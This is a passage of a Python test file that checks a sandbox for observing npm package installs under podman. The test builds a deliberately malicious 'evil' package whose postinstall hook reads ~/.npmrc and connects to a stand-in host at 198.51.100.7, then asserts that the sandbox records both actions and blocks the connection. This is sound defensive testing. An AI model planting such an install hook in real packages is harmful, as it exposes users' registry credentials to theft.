from gatekeeper.diffing import install_behaviour as ib

out = {"probe": sandbox.probe()}
pkg = Path("/tmp/evil")
pkg.mkdir()
manifest = {"name": "evil", "version": "1.0.0", "scripts": {"postinstall": "node p.js"}}
(pkg / "package.json").write_text(json.dumps(manifest))
(pkg / "p.js").write_text(
    "const fs = require('fs'), os = require('os'), net = require('net');\n"
    "fs.readFileSync(os.homedir() + '/.npmrc');\n"
    "const s = net.connect(443, '198.51.100.7'); s.on('error', (e) => console.log('net ' + e.code));\n"
)
tgz = subprocess.run(["npm", "pack", "--silent"], cwd=pkg, capture_output=True, text=True, check=True).stdout.strip()
obs = sandbox.observe_install(pkg / tgz, "evil", registry="http://127.0.0.1:9/")
prof = ib.read_trace(obs.trace, ib.Layout(obs.project, obs.home, obs.tmp, obs.canaries))
out["exit"] = obs.exit_code
out["left"] = obs.left_running
out["lost"] = list(obs.lost)
out["profile"] = prof.to_json()
out["output"] = obs.output[-1500:]
print(json.dumps(out))
"""


def test_the_install_sandbox_works_in_the_container_as_github_runs_it(image: str) -> None:
    """Issue 25: strace (ptrace of its own children), setpriv and the seccomp filter work in the image under runc
    with podman's default seccomp profile and capabilities, no --privileged: the runner's `docker run`."""
    proc = podman(*RUN, "--network", "none", "--entrypoint", "/opt/venv/bin/python", image, "-I", "-B", "-c",
                  SANDBOX_PROBE)  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["probe"] is None, out
    assert out["exit"] == 0 and out["left"] == 0 and out["lost"] == [], out
    evil = out["profile"]["evil"]
    assert "~/.npmrc" in evil["canaries"], out
    assert "AF_INET 198.51.100.7 port 443" in evil["network"], out
    assert "net EACCES" in out["output"], out  # refused by the filter (the container has no network anyway)
